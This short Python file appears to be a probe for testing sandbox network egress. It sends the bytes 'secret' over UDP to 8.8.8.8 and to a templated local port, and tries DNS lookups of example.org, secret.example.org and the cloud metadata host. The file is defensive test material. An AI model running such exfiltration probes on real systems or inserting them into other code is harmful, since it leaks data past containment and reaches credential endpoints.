"""Send out what was found, by UDP and by asking a name server.

Harm: somebody is told; the answer says who.
"""

import contextlib
import socket


def paired(*given):
    worked = []
    for address in (("8.8.8.8", 53), ("127.0.0.1", int("@UDP@"))):
        with contextlib.suppress(OSError):
            socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"secret", address)
            worked.append(f"udp to {address}")
    for name in ("example.org", "secret.example.org", "metadata.google.internal"):
        with contextlib.suppress(OSError):
            socket.getaddrinfo(name, 80)
            worked.append(name)
    return worked
